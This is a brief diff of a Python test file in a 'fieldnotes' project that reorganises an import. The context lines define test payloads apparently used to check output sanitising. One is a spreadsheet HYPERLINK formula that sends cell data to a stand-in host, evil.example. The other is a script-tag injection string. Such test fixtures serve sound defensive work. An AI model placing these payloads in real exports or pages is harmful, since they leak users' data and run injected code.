@@ -18,7 +18,8 @@ from fieldnotes.analysis.table import RowHeader, Table
 from fieldnotes.errors import FieldnotesError
 from fieldnotes.export.quotes import CSV_HEADER, quotes, write_quotes
 from fieldnotes.export.safe import escape_markdown, neutralise, write_atomically
-from fieldnotes.export.tables import rich_table, sheet_name, to_xlsx, write_table, write_tables
+from fieldnotes.cli.tables import rich_table
+from fieldnotes.export.tables import sheet_name, to_xlsx, write_table, write_tables
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
 SCRIPT = "<script>alert(1)</script>"
